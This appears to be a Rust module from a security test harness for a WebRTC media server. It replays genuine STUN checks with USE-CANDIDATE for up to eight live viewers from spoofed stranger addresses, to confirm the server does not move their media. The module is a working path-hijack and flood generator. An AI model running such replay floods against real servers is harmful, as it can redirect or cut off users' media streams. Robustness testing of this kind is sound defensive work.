//! Authentic checks with USE-CANDIDATE of live viewers, from addresses that are not theirs: what somebody on the path can
//! hold back, and send from elsewhere as often as it likes. Media must not follow.

use super::flood::Datagrams;
use super::{AttackError, Flood, Target};
use crate::client::bare_check;

/// Of so many viewers.
const VICTIMS: usize = 8;
/// Checks a second are enough: one moves a viewer, and each is answered.
const MOST: u32 = 1000;

pub(super) fn start(target: &Target) -> Result<Flood, AttackError> {
    let mut checks = Vec::new();
    for (index, victim) in target.victims().iter().take(VICTIMS).enumerate() {
        let mut transaction = *b"held back...";
        transaction[11] = index as u8;
        checks.push((victim.to, bare_check(&victim.local, &victim.remote, transaction)?));
    }
    if checks.is_empty() {
        return Err(AttackError::Needs("honest viewers"));
    }
    let sources = target.strangers()?;
    // Each address gets only what is meant for it.
    let of = |to| checks.iter().filter(|(address, _)| *address == to).map(|(_, check)| check.clone()).collect();
    let checks: Vec<Vec<Vec<u8>>> = sources.iter().map(|source| of(source.to)).collect();
    Ok(Flood::start("replay", sources, Replay { checks, turn: 0 }, target.datagrams.min(MOST))?)
}

struct Replay {
    /// By source.
    checks: Vec<Vec<Vec<u8>>>,
    turn: usize,
}

impl Datagrams for Replay {
    fn next(&mut self, source: usize, buffer: &mut [u8]) -> usize {
        let checks = &self.checks[source];
        self.turn += 1;
        let Some(check) = checks.get(self.turn % checks.len().max(1)) else { return 0 };
        buffer[..check.len()].copy_from_slice(check);
        check.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_same_bytes_leave_from_every_source() {
        let mut replay = Replay { checks: vec![vec![vec![1; 90]], Vec::new(), vec![vec![1; 90]]], turn: 0 };
        let mut buffer = [0; 1500];
        assert_eq!([0, 1, 2, 0].map(|source| replay.next(source, &mut buffer)), [90, 0, 90, 90]);
    }
}
